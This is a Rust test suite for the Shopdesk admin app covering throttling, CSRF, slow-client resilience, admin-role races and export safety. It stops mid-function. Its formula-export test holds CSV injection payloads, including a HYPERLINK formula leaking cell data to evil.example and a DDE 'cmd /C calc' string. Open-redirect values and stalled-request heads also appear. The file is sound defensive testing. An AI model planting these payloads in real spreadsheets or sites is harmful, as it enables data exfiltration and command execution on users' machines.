//! Shopdesk under attack, without an account or with a stolen one: stalled
//! uploads and unread downloads must not take the dashboard down, sign-in
//! throttling must hold against bursts and forged addresses without locking
//! the owner out, and exports must neither carry formulas nor pass a failed
//! download off as a finished one.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use crate::harness::live::{read_head, Answer, LiveServer};
use crate::harness::{csrf_in, encode_form, TestApp, PASSWORD};
use rocket::http::{ContentType, Header, Method, Status};
use rocket::tokio::io::AsyncReadExt;

/// A client address for the local client, as the TCP peer would be.
fn from(ip: &str) -> SocketAddr {
    SocketAddr::new(ip.parse().unwrap(), 40000)
}

/// Posts the sign-in form from `address` with the browser's current token.
async fn sign_in_from(app: &TestApp, address: &str, email: &str, password: &str) -> (Status, String) {
    let form = encode_form(&[("csrf", &app.csrf()), ("email", email), ("password", password), ("next", "/")]);
    let response =
        app.client.post("/sign-in").remote(from(address)).header(ContentType::Form).body(form).dispatch().await;
    (response.status(), response.into_string().await.unwrap_or_default())
}

/// Asks for `/` with `session` and says how long the answer took.
async fn timed_page(server: &LiveServer, session: &str) -> (u16, Duration) {
    let started = Instant::now();
    let page = server.exchange("GET", "/", &[("Cookie", session)], "").await;
    (page.status, started.elapsed())
}

/// A shop with `customers` generated customers (120,000 make an export
/// outgrow socket buffers) served on a real port, and an admin's session.
async fn served_shop(customers: u64) -> (TestApp, LiveServer, String) {
    let app = TestApp::with_demo(false).await;
    app.staff("admin@shop.example", "admin").await;
    if customers > 0 {
        app.generate(shopdesk::generate::Sizes { users: customers, products: 0, orders: 0 }, 7).await;
    }
    // Its exports are sent at once, however large: these tests are about the direct download.
    let server = LiveServer::start(&app.url, &[("exports.job_threshold_rows", 1_000_000.into())]).await;
    let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;
    (app, server, session)
}

#[rocket::async_test]
async fn stalled_sign_in_and_sign_out_bodies_hold_no_database_connection() {
    let (_app, server, session) = served_shop(0).await;
    let page = server.exchange("GET", "/sign-in", &[], "").await;
    let presession = page.cookies();

    for (path, cookie) in [("/sign-in", presession.as_str()), ("/sign-out", session.as_str())] {
        // 16 clients announce 4,000 bytes, send 700, and stall (the pool has 4 connections).
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
        );
        let body = format!("email={}", "a".repeat(694));
        let mut stalled = Vec::new();
        for _ in 0..16 {
            stalled.push(server.send(&head, body.as_bytes()).await);
        }
        rocket::tokio::time::sleep(Duration::from_millis(300)).await;
        let (status, took) = timed_page(&server, &session).await;
        assert_eq!(status, 200, "a signed-in page answers while 16 {path} bodies stall");
        assert!(took < Duration::from_secs(1), "it answered in {took:?}");
        let ready = server.exchange("GET", "/readyz", &[], "").await;
        assert_eq!(ready.status, 200, "/readyz while 16 {path} bodies stall");

        // The body timeout (2 s here) ends each stalled upload with 408.
        let mut first = stalled.swap_remove(0);
        let mut answer = vec![0; 4096];
        let read = rocket::tokio::time::timeout(Duration::from_secs(6), first.read(&mut answer)).await;
        let n = read.expect("the server gave up on the stalled body").expect("read its answer");
        assert_eq!(Answer::parse(&answer[..n]).status, 408, "{}", String::from_utf8_lossy(&answer[..n]));
    }
}

#[rocket::async_test]
async fn no_post_route_takes_a_connection_before_its_form_arrives() {
    let (app, server, session) = served_shop(0).await;
    app.customer("Ada", "ada@example.com").await;
    let posts = app.routes(Method::Post);
    assert!(posts.len() >= 15, "{posts:?}");
    for path in &posts {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
        );
        let mut stalled = Vec::new();
        for _ in 0..6 {
            stalled.push(server.send(&head, b"name=x").await);
        }
        rocket::tokio::time::sleep(Duration::from_millis(150)).await;
        let (status, took) = timed_page(&server, &session).await;
        assert_eq!(status, 200, "a page answers while 6 bodies for {path} stall");
        assert!(took < Duration::from_secs(1), "{path}: the page took {took:?}");
    }
}

#[rocket::async_test]
async fn unread_csv_downloads_cannot_starve_pages() {
    let (_app, server, session) = served_shop(120_000).await;

    let head = format!("GET /users.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\n\r\n");
    let mut unread = Vec::new();
    for _ in 0..16 {
        unread.push(server.send(&head, b"").await);
    }
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(4) {
        let (status, took) = timed_page(&server, &session).await;
        assert_eq!(status, 200, "a signed-in page answers while 16 downloads go unread");
        assert!(took < Duration::from_secs(1), "it answered in {took:?}");
        let ready = server.exchange("GET", "/readyz", &[], "").await;
        assert_eq!(ready.status, 200);
        rocket::tokio::time::sleep(Duration::from_millis(200)).await;
    }
    drop(unread);
}

#[rocket::async_test]
async fn a_download_cut_short_is_visibly_incomplete() {
    let (_app, server, session) = served_shop(120_000).await;

    let head = format!("GET /users.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\nConnection: close\r\n\r\n");
    let mut stream = server.send(&head, b"").await;
    let (answer, first) = read_head(&mut stream).await;
    assert_eq!(answer.status, 200);
    let announced: usize = answer.header("content-length").and_then(|l| l.parse().ok()).expect("a Content-Length");
    assert!(announced > 8_000_000, "the export is larger than socket buffers: {announced}");
    // The client stops reading for longer than the download timeout (1 s here).
    rocket::tokio::time::sleep(Duration::from_secs(3)).await;
    let mut rest = Vec::new();
    let read = rocket::tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut rest)).await;
    assert!(read.is_ok(), "the server ended the connection");
    let body = first.len() + rest.len();
    assert!(body < announced, "the client sees {body} of {announced} bytes: an incomplete download");
    // Its slot is free again: the next download completes.
    let again = server.exchange("GET", "/users.csv", &[("Cookie", &session)], "").await;
    assert_eq!(again.status, 200);
    assert_eq!(again.body.len(), again.header("content-length").and_then(|l| l.parse().ok()).unwrap_or(0));
}

#[rocket::async_test]
async fn an_export_whose_filters_cannot_be_read_says_why() {
    let app = TestApp::new().await;
    app.customer("Ada", "ada@example.com").await;
    for path in [
        "/users.csv?joined_from=-4714-01-01",
        "/users.csv?joined_to=0000-01-01",
        "/orders.csv?from=-9999-01-01",
        "/orders.csv?min_total=abc",
    ] {
        let page = app.get(path).await;
        assert_eq!(page.status, Status::BadRequest, "{path}");
        page.assert_contains("were not exported");
        page.assert_lacks("id,name");
    }
}

#[rocket::async_test]
async fn a_burst_of_wrong_passwords_checks_at_most_the_limit() {
    let app = TestApp::with_demo(false).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    for (label, spread) in [("one address", false), ("25 addresses", true)] {
        sqlx::query("DELETE FROM sign_in_attempts").execute(&app.pool).await.unwrap();
        let attempts = (0..25).map(|i| {
            let address = if spread { format!("198.51.100.{}", i + 1) } else { "198.51.100.1".to_string() };
            let app = &app;
            async move { sign_in_from(app, &address, "ada@shop.example", "wrong password").await }
        });
        let answers = futures::future::join_all(attempts).await;
        let checked = answers.iter().filter(|(status, _)| *status == Status::Ok).count();
        let refused = answers.iter().filter(|(status, _)| *status == Status::TooManyRequests).count();
        assert_eq!(checked + refused, 25, "{label}: every attempt is answered");
        assert!(checked <= 5, "{label}: {checked} passwords were checked, the limit is 5");
        let failures =
            app.scalar_i64("SELECT count(*) FROM sign_in_attempts WHERE NOT succeeded AND NOT throttled").await;
        assert_eq!(failures, checked as i64, "{label}");
    }
}

#[rocket::async_test]
async fn a_forged_address_header_is_ignored_by_default() {
    let app = TestApp::with_demo(false).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    for _ in 0..8 {
        let form = encode_form(&[("csrf", &app.csrf()), ("email", "ada@shop.example"), ("password", "wrong one")]);
        app.client
            .post("/sign-in")
            .remote(from("198.51.100.7"))
            .header(Header::new("X-Real-IP", format!("203.0.113.{}", rand_byte())))
            .header(Header::new("X-Forwarded-For", "203.0.113.99"))
            .header(ContentType::Form)
            .body(form)
            .dispatch()
            .await;
    }
    let addresses: Vec<String> =
        sqlx::query_scalar("SELECT DISTINCT address FROM sign_in_attempts").fetch_all(&app.pool).await.unwrap();
    assert_eq!(addresses, vec!["198.51.100.7".to_string()], "the TCP peer, whatever the headers say");
    // A forged header bought no fresh budget: the address is refused after 5,
    // and the 3 refused attempts left no rows.
    assert_eq!(app.scalar_i64("SELECT count(*) FROM sign_in_attempts").await, 5);
}

#[rocket::async_test]
async fn a_flood_of_sign_ins_cannot_grow_the_attempts_table() {
    let app = TestApp::with_demo(false).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    // Failures from long ago, and an old success, that no rule reads any more.
    sqlx::query(
        "INSERT INTO sign_in_attempts (email, address, succeeded, at)
         SELECT 'old' || g || '@example.com', '192.0.2.1', false, now() - interval '2 hours' FROM generate_series(1, 50) g
         UNION ALL SELECT 'ada@shop.example', '192.0.2.2', true, now() - interval '100 days'",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    // One address names 120 invented accounts, then one IPv6 client rotates through its /64.
    for i in 0..120 {
        let (status, _) = sign_in_from(&app, "198.51.100.50", &format!("nobody{i}@example.com"), "guess").await;
        assert!(status == Status::Ok || status == Status::TooManyRequests, "{status}");
    }
    for i in 0..40 {
        let address = format!("2001:db8:7:7::{:x}", i + 1);
        sign_in_from(&app, &address, &format!("v6-{i}@example.com"), "guess").await;
    }
    let rows = app.scalar_i64("SELECT count(*) FROM sign_in_attempts").await;
    assert_eq!(rows, 60, "30 failures per address (or /64) per window are kept, and nothing else");
    let old = app.scalar_i64("SELECT count(*) FROM sign_in_attempts WHERE at < now() - interval '1 hour'").await;
    assert_eq!(old, 0, "attempts no rule reads any more are pruned");
    // The owner, from an address of their own, is not locked out by any of it.
    let (status, _) = sign_in_from(&app, "192.0.2.10", "ada@shop.example", PASSWORD).await;
    assert_eq!(status, Status::SeeOther);
}

fn rand_byte() -> u8 {
    (std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().subsec_nanos() % 250) as u8
}

#[rocket::async_test]
async fn a_trusted_proxy_names_the_client_and_nobody_else_can() {
    let proxy = serde_json::json!({ "header": "X-Forwarded-For", "trusted": ["10.0.0.0/8"] });
    let app = TestApp::configured(false, &[("proxy", proxy)]).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    for (peer, forwarded) in [("10.0.0.2", "6.6.6.6, 203.0.113.5"), ("198.51.100.9", "203.0.113.77")] {
        let form = encode_form(&[("csrf", &app.csrf()), ("email", "ada@shop.example"), ("password", "nope")]);
        app.client
            .post("/sign-in")
            .remote(from(peer))
            .header(Header::new("X-Forwarded-For", forwarded))
            .header(ContentType::Form)
            .body(form)
            .dispatch()
            .await;
    }
    let addresses: Vec<String> =
        sqlx::query_scalar("SELECT address FROM sign_in_attempts ORDER BY id").fetch_all(&app.pool).await.unwrap();
    assert_eq!(addresses, vec!["203.0.113.5".to_string(), "198.51.100.9".to_string()]);
}

#[rocket::async_test]
async fn the_owner_still_signs_in_after_an_attackers_failures_elsewhere() {
    let app = TestApp::with_demo(false).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    // The owner signs in from home once, then signs out.
    let (status, _) = sign_in_from(&app, "192.0.2.10", "ada@shop.example", PASSWORD).await;
    assert_eq!(status, Status::SeeOther);
    app.sign_out().await;

    // An attacker guesses from 40 addresses and hammers from one more.
    for i in 0..40 {
        sign_in_from(&app, &format!("203.0.113.{i}"), "ada@shop.example", "guess").await;
    }
    for _ in 0..10 {
        sign_in_from(&app, "198.51.100.66", "ada@shop.example", "guess").await;
    }
    let checked = app.scalar_i64("SELECT count(*) FROM sign_in_attempts WHERE NOT succeeded AND NOT throttled").await;
    assert!(checked < 10, "the growing delay let {checked} of 50 guesses through");
    // Right after a failure, a new address waits.
    sqlx::query(
        "INSERT INTO sign_in_attempts (email, address, succeeded) VALUES ('ada@shop.example', '203.0.113.9', false)",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let (status, body) = sign_in_from(&app, "203.0.113.200", "ada@shop.example", "guess").await;
    assert_eq!(status, Status::TooManyRequests, "new addresses wait a growing delay");
    assert!(body.contains("Too many failed sign-ins") && body.contains("second"), "{body}");

    // The owner, from home: a typo is just a typo, and the password works.
    let (status, body) = sign_in_from(&app, "192.0.2.10", "ada@shop.example", "typo").await;
    assert_eq!(status, Status::Ok);
    assert!(body.contains("do not match"));
    let (status, _) = sign_in_from(&app, "192.0.2.10", "ada@shop.example", PASSWORD).await;
    assert_eq!(status, Status::SeeOther, "the owner signs in despite the attack");
    assert_eq!(app.get("/").await.status, Status::Ok);
}

/// Statements of this test's database waiting for a lock.
const WAITING_FOR_A_LOCK: &str = "SELECT count(*) FROM pg_stat_activity
    WHERE datname = current_database() AND wait_event_type = 'Lock'";

#[rocket::async_test]
async fn two_admins_demoting_each_other_at_once_leave_one_admin() {
    let app = TestApp::new().await;
    let first: i64 = app.scalar_i64("SELECT id FROM staff WHERE email = 'admin@test.example'").await;
    let second = app.staff("grace@test.example", "admin").await;
    // A second browser for the second admin, on the same database.
    let grace = app.second_app(&[]).await;
    grace.refresh_csrf("/sign-in").await;
    assert_eq!(grace.sign_in("grace@test.example", PASSWORD).await.status, Status::SeeOther);
    grace.refresh_csrf("/").await;

    for (round, (kind, role)) in
        [("role", "viewer"), ("disable", ""), ("role", "viewer"), ("disable", "")].into_iter().enumerate()
    {
        let change = [("change", kind), ("role", role)];
        let (demote_grace, demote_me) = (format!("/staff/{second}"), format!("/staff/{first}"));
        // At once: both admins' changes are under way (each past its sign-in
        // check) before either is made. The staff rows stay locked until
        // both changes wait for them, then both go ahead.
        let mut gate = app.pool.begin().await.unwrap();
        sqlx::query("SELECT id FROM staff FOR UPDATE").execute(&mut *gate).await.unwrap();
        let open_when_both_wait = async {
            let started = Instant::now();
            while app.scalar_i64(WAITING_FOR_A_LOCK).await < 2 {
                assert!(started.elapsed() < Duration::from_secs(20), "round {round}: both changes wait for the rows");
                rocket::tokio::time::sleep(Duration::from_millis(10)).await;
            }
            gate.commit().await.unwrap();
        };
        let (a, b, ()) =
            futures::join!(app.post(&demote_grace, &change), grace.post(&demote_me, &change), open_when_both_wait);
        let statuses = [a.status, b.status];
        assert_eq!(statuses, [Status::SeeOther, Status::SeeOther], "round {round}: both answered with a message");
        let admins = app.scalar_i64("SELECT count(*) FROM staff WHERE role = 'admin' AND NOT disabled").await;
        assert_eq!(admins, 1, "round {round}: exactly one admin is left, never none");
        // Both admins again for the next round, with their sessions intact.
        sqlx::query("UPDATE staff SET role = 'admin', disabled = false WHERE id IN ($1, $2)")
            .bind(first)
            .bind(second)
            .execute(&app.pool)
            .await
            .unwrap();
        sqlx::query("UPDATE staff SET session_epoch = 1").execute(&app.pool).await.unwrap();
    }
}

#[rocket::async_test]
async fn the_last_admin_cannot_be_disabled_or_demoted_by_anyone() {
    let app = TestApp::new().await;
    let viewer_admin = app.staff("other@test.example", "admin").await;
    // Another admin is disabled; then the only remaining enabled admin is us.
    app.post_ok(&format!("/staff/{viewer_admin}"), &[("change", "disable")]).await;
    let me: i64 = app.scalar_i64("SELECT id FROM staff WHERE email = 'admin@test.example'").await;
    // Re-enable the other as a viewer and make the change through the data layer as "the system".
    let mut conn = app.pool.acquire().await.unwrap();
    let refused = shopdesk::db::staff::change(&mut conn, None, me, shopdesk::db::staff::Change::Disabled(true)).await;
    assert!(matches!(refused, Err(shopdesk::db::staff::ChangeError::LastAdmin)));
    let refused = shopdesk::db::staff::change(
        &mut conn,
        None,
        me,
        shopdesk::db::staff::Change::Role(shopdesk::db::staff::Role::Viewer),
    )
    .await;
    assert!(matches!(refused, Err(shopdesk::db::staff::ChangeError::LastAdmin)));
    assert_eq!(app.scalar_i64("SELECT count(*) FROM staff WHERE role = 'admin' AND NOT disabled").await, 1);
}

#[rocket::async_test]
async fn changing_ones_own_password_needs_the_current_one() {
    let app = TestApp::new().await;
    let me: i64 = app.scalar_i64("SELECT id FROM staff WHERE email = 'admin@test.example'").await;
    let hash_before: String = sqlx::query_scalar("SELECT password_hash FROM staff WHERE id = $1")
        .bind(me)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    // A stolen session alone cannot set a new password, on either page.
    let page =
        app.post_ok(&format!("/staff/{me}"), &[("change", "password"), ("password", "a brand new password")]).await;
    page.assert_contains("Your password was not changed: enter your current password too.");
    let page = app
        .post_ok("/account/password", &[("current_password", "not my password"), ("password", "a brand new password")])
        .await;
    page.assert_contains("Your password was not changed: your current password was not right.");
    let hash_now: String = sqlx::query_scalar("SELECT password_hash FROM staff WHERE id = $1")
        .bind(me)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(hash_now, hash_before);
    // With the current password it works, and this browser stays signed in.
    let page =
        app.post_ok("/account/password", &[("current_password", PASSWORD), ("password", "a brand new password")]).await;
    page.assert_contains("Your password is changed");
    assert_eq!(app.get("/").await.status, Status::Ok);
}

#[rocket::async_test]
async fn the_csrf_token_belongs_to_one_session_and_changes_at_sign_in() {
    let app = TestApp::with_demo(false).await;
    app.staff("ada@shop.example", "admin").await;
    app.refresh_csrf("/sign-in").await;
    let before_sign_in = app.csrf();
    let (status, _) = sign_in_from(&app, "192.0.2.1", "ada@shop.example", PASSWORD).await;
    assert_eq!(status, Status::SeeOther);
    app.refresh_csrf("/").await;
    let session_token = app.csrf();
    assert_ne!(session_token, before_sign_in, "signing in rotates the token");
    // The pre-sign-in token no longer works.
    let stale =
        app.post_raw("/users", &[("csrf", &before_sign_in), ("name", "Eve"), ("email", "eve@example.com")]).await;
    assert_eq!(stale.status, Status::Forbidden);

    // Another browser's valid token and cookie do not work with this session.
    let other = app.second_app(&[]).await;
    let visitor = other.get("/sign-in").await;
    let visitor_token = csrf_in(&visitor.body).unwrap();
    let forged =
        app.post_raw("/users", &[("csrf", &visitor_token), ("name", "Eve"), ("email", "eve@example.com")]).await;
    assert_eq!(forged.status, Status::Forbidden);
    assert_eq!(app.scalar_i64("SELECT count(*) FROM users").await, 0);
    // This session's own token works.
    app.create_customer("Grace", "grace@example.com").await;
}

#[rocket::async_test]
async fn what_used_to_be_a_500_is_now_a_clear_4xx_or_a_message() {
    let app = TestApp::new().await;
    app.customer("Ada", "ada@example.com").await;
    // `next` values that are not valid addresses, while signed in.
    for next in ["/%20/evil.example", "/%E3%80%80/evil.example", "/%EF%BC%8Fevil.example"] {
        let page = app.get(&format!("/sign-in?next={next}")).await;
        assert_eq!((page.status, page.location.as_deref()), (Status::SeeOther, Some("/")), "{next}");
    }
    // Lists with dates and cursors PostgreSQL cannot store show the list and a message.
    for (path, message) in [
        ("/users?joined_from=-4714-01-01", "Enter dates as YYYY-MM-DD."),
        ("/orders?from=-9999-01-01", "Enter dates as YYYY-MM-DD"),
        ("/audit?to=-262143-01-01", "Enter dates as YYYY-MM-DD."),
        ("/users?joined_to=0000-01-01", "Enter dates as YYYY-MM-DD."),
    ] {
        let page = app.get(path).await;
        assert_eq!(page.status, Status::Ok, "{path}");
        page.assert_contains(message);
    }
    for path in [
        "/orders?sort=placed&after=0000-01-01%2000:00:00%2B00~1",
        "/orders?sort=placed&before=-0001-01-01%2000:00:00%2B00~1",
        "/users?sort=joined&after=-2026-11-29%2004:33:23.091826%2B00~5",
        "/users?sort=joined&before=-4714-11-24%2000:00:00%2B00~5",
    ] {
        let page = app.get(path).await;
        assert_eq!(page.status, Status::Ok, "{path}");
    }
    // Invisible or reordering names are refused like empty ones.
    for name in ["\u{200B}\u{200B}", "\u{FEFF}", "Ada \u{202E}ecalevoL"] {
        let page = app.post_new_customer(name, "x@example.com").await;
        assert_eq!(page.status, Status::Ok, "the form again for {name:?}");
        page.assert_contains("field-error");
        let page = app.post_new_product(name, "SKU-1", "1", "1").await;
        page.assert_contains("field-error");
    }
    assert_eq!(app.scalar_i64("SELECT count(*) FROM users").await, 1);
    assert_eq!(app.scalar_i64("SELECT count(*) FROM products").await, 0);
    // A picker search of only a NUL matches nobody.
    let picked = app.get("/pickers/customers?q=%00").await;
    assert_eq!((picked.status, picked.body.as_str()), (Status::Ok, "[]"));
    let picked = app.get("/pickers/products?q=%00").await;
    assert_eq!((picked.status, picked.body.as_str()), (Status::Ok, "[]"));

    // Signed out: `next=/orders x` and a NUL in the email.
    app.sign_out().await;
    let signed = app.sign_in_to("admin@test.example", PASSWORD, "/orders x").await;
    assert_eq!((signed.status, signed.location.as_deref()), (Status::SeeOther, Some("/")));
    assert_eq!(app.scalar_i64("SELECT count(*) FROM audit_log WHERE action = 'sign_in'").await, 2);
    app.sign_out().await;
    let nul = app.sign_in("admin@test.example\0", PASSWORD).await;
    assert_eq!(nul.status, Status::Ok);
    nul.assert_contains("do not match an active account");
}

#[rocket::async_test]
async fn every_export_neutralises_formulas() {
    let app = TestApp::new().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let user = app.customer("@SUM(1+1)*cmd|' /C calc'!A0", "eve@example.com").await;
    let product = app.product(evil, "+SKU", 1000, 10).await;
    app.place_order(user, &[(product, 2)]).await;
    for path in [
        "/users.csv",
        "/products.csv",
        "/orders.csv",
        "/reports/top-customers.csv",
        "/reports/revenue-per-customer.csv",
        "/reports/best-sellers.csv",
    ] {
        let page = app.get(path).await;
        assert_eq!(page.status, Status::Ok, "{path}");
        for line in page.body.lines().skip(1) {
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                    assert!(!formula, "{path}: {cell:?} would run as a formula");
                }
            }
        }
    }
    let products = app.get("/products.csv").await;
    products.assert_contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
    products.assert_contains(",'+SKU,");
    app.get("/users.csv").await.assert_contains("'@SUM(1+1)");
}

#[rocket::async_test]
async fn nothing_but_static_files_may_be_cached_and_cookies_are_locked_down() {
    let app = TestApp::new().await;
    app.customer("Ada", "ada@example.com").await;
    for path in ["/", "/users", "/users.csv", "/pickers/customers?q=ada", "/sign-in", "/no/such/page"] {
        let page = app.get(path).await;
        assert_eq!(page.header("Cache-Control"), Some("no-store"), "{path}");
        assert_eq!(page.header("Server"), None, "{path}: no Server banner");
    }
    let css = app.get("/static/app.css").await;
    assert_eq!(css.header("Cache-Control"), None);

    // The flash cookie is HttpOnly like the others.
    let created = app.post_new_customer("Grace", "grace@example.com").await;
    let flash: Vec<&str> = created.headers("Set-Cookie").filter(|c| c.starts_with("_flash=")).collect();
    assert_eq!(flash.len(), 1);
    assert!(flash[0].contains("HttpOnly") && flash[0].contains("SameSite=Lax"), "{}", flash[0]);

    // The session cookie lives no longer than the session (12 hours).
    app.sign_out().await;
    let signed_in = app.sign_in("admin@test.example", PASSWORD).await;
    let session = signed_in.headers("Set-Cookie").find(|c| c.starts_with("shopdesk_session=")).unwrap().to_string();
    let max_age: i64 = session
        .split(';')
        .find_map(|part| part.trim().strip_prefix("Max-Age="))
        .and_then(|v| v.parse().ok())
        .expect("a Max-Age");
    assert!(max_age > 12 * 3600 - 60 && max_age <= 12 * 3600, "{session}");
}

#[rocket::async_test]
async fn metrics_need_the_token_and_are_off_without_one() {
    let app = TestApp::new().await;
    assert_eq!(app.metrics().await.status, Status::Ok);
    let anonymous = app.get("/metrics").await;
    assert_eq!(anonymous.status, Status::Unauthorized);
    assert_eq!(anonymous.header("WWW-Authenticate"), Some("Bearer realm=\"metrics\""));
    let wrong = app.client.get("/metrics").header(Header::new("Authorization", "Bearer guess")).dispatch().await;
    assert_eq!(wrong.status(), Status::Unauthorized);

    let off = TestApp::configured(false, &[("metrics_token", "".into())]).await;
    assert_eq!(off.get("/metrics").await.status, Status::NotFound);
    let with_header = off.client.get("/metrics").header(Header::new("Authorization", "Bearer ")).dispatch().await;
    assert_eq!(with_header.status(), Status::NotFound);
}

#[test]
fn only_a_debug_build_or_an_explicit_demo_serves_the_published_login() {
    use rocket::figment::providers::Serialized;
    let release = shopdesk::figment().select("release");
    assert!(!shopdesk::demo_enabled(&release), "a release build is not a demo by default");
    assert!(shopdesk::demo_enabled(&release.clone().merge(Serialized::global("demo", true))), "unless asked");
    assert!(shopdesk::demo_enabled(&shopdesk::figment().select("debug")), "cargo run is a demo");
}

#[rocket::async_test]
async fn a_server_that_is_not_a_demo_disables_the_published_login() {
    let demo = TestApp::with_demo(true).await;
    let enabled = "SELECT count(*) FROM staff WHERE email = 'viewer@shopdesk.demo' AND NOT disabled";
    assert_eq!(demo.scalar_i64(enabled).await, 1);
    let real = demo.second_app(&[]).await;
    assert_eq!(demo.scalar_i64(enabled).await, 0, "the published password no longer signs anyone in");
    assert_eq!(demo.scalar_i64("SELECT count(*) FROM audit_log WHERE action = 'disable'").await, 1);
    real.refresh_csrf("/sign-in").await;
    let answer = real.sign_in(shopdesk::demo::DEMO_VIEWER_EMAIL, shopdesk::demo::DEMO_VIEWER_PASSWORD).await;
    assert_eq!(answer.status, Status::Ok);
    answer.assert_contains("do not match an active account");
}

#[test]
fn the_server_says_which_configuration_file_it_reads() {
    let run = |dir: &std::path::Path| {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_shopdesk"))
            .arg("serve")
            .current_dir(dir)
            .env("DATABASE_URL", "postgres://postgres@127.0.0.1:1/shopdesk")
            .env_remove("ROCKET_CONFIG")
            .output()
            .expect("run shopdesk");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let here = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let said = run(&here.join("src"));
    assert!(said.contains(&format!("configuration from {}", here.join("Rocket.toml").display())), "{said}");
    let elsewhere = std::env::temp_dir();
    let said = run(&elsewhere);
    assert!(said.contains("no Rocket.toml found"), "{said}");
}

#[rocket::async_test]
async fn exports_wait_for_a_slot_before_they_take_a_connection() {
    let settings = [("exports.slots", 1.into()), ("exports.wait_seconds", 2.into())];
    let app = TestApp::configured(false, &settings).await;
    app.sign_in_as("admin@test.example", "admin").await;
    let ada = app.customer("Ada", "ada@example.com").await;
    let mug = app.product("Mug", "MUG", 1000, 10).await;
    app.place_order(ada, &[(mug, 1)]).await;
    // Every route that answers with a CSV file, per record and per list.
    let exports = [
        format!("/products/{mug}/buyers.csv"),
        format!("/users/{ada}/products.csv"),
        "/users.csv".to_string(),
        "/products.csv".to_string(),
        "/orders.csv".to_string(),
        "/reports/top-customers.csv".to_string(),
        "/reports/revenue-per-customer.csv".to_string(),
        "/reports/best-sellers.csv".to_string(),
        "/reports/revenue-by-month.csv".to_string(),
    ];
    let listed: Vec<String> =
        app.routes(Method::Get).into_iter().filter(|p| p.ends_with(".csv")).map(|p| p.replace("/1/", "/")).collect();
    assert_eq!(listed.len(), exports.len(), "every export is exercised here: {listed:?}");

    // The only slot is busy (a long export elsewhere); 18 downloads queue for it,
    // more than the pool's 8 connections.
    let rocket = app.client.rocket();
    let state = rocket.state::<shopdesk::web::export::Exports>().expect("exports");
    let held = state.slot().await.expect("a slot");
    let queued =
        futures::future::join_all(exports.iter().cycle().take(18).map(|path| app.client.get(path.clone()).dispatch()));
    let page = async {
        rocket::tokio::time::sleep(Duration::from_millis(300)).await;
        let started = Instant::now();
        let page = app.get(&format!("/users/{ada}")).await;
        (page.status, started.elapsed())
    };
    let (answers, (status, took)) = futures::future::join(queued, page).await;
    assert_eq!(status, Status::Ok, "a page answers while downloads queue");
    assert!(took < Duration::from_secs(1), "it answered in {took:?}: queued downloads held connections");
    for answer in answers {
        assert_eq!(answer.status(), Status::ServiceUnavailable);
        let body = answer.into_string().await.unwrap_or_default();
        assert!(body.contains("Other downloads are being prepared"), "{body}");
    }
    drop(held);
    for path in &exports {
        let page = app.get(path).await;
        assert_eq!(page.status, Status::Ok, "{path}");
        assert_eq!(page.header("Content-Type"), Some("text/csv; charset=utf-8"), "{path}");
    }
}

#[rocket::async_test]
async fn a_slow_reader_does_not_keep_its_export_slot() {
    let app = TestApp::with_demo(false).await;
    app.staff("admin@shop.example", "admin").await;
    app.generate(shopdesk::generate::Sizes { users: 120_000, products: 0, orders: 0 }, 7).await;
    // One slot, a download timeout far longer than the test, and exports sent at once.
    let settings = [
        ("exports.slots", 1.into()),
        ("timeouts.download", 60.into()),
        ("exports.job_threshold_rows", 1_000_000.into()),
    ];
    let server = LiveServer::start(&app.url, &settings).await;
    let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;

    let head = format!("GET /users.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\n\r\n");
    let mut slow = server.send(&head, b"").await;
    let (answer, _) = read_head(&mut slow).await;
    assert_eq!(answer.status, 200);
    let announced: usize = answer.header("content-length").and_then(|l| l.parse().ok()).expect("a Content-Length");
    assert!(announced > 8_000_000, "the export outgrows socket buffers: {announced}");
    // The first client now reads nothing; the only slot is free for the next export all the same.
    let started = Instant::now();
    let next = server.exchange("GET", "/users.csv", &[("Cookie", &session)], "").await;
    assert_eq!(next.status, 200, "{}", next.body.chars().take(300).collect::<String>());
    assert_eq!(next.body.len(), announced, "the second download is complete");
    assert!(started.elapsed() < Duration::from_secs(15), "took {:?}", started.elapsed());
    drop(slow);
}

#[rocket::async_test]
async fn stalled_headers_and_short_bodies_pin_nothing() {
    let (_app, server, session) = served_shop(0).await;
    let page = server.exchange("GET", "/sign-in", &[], "").await;
    let presession = page.cookies();
    let form_head = |path: &str, cookie: &str| {
        format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
        )
    };
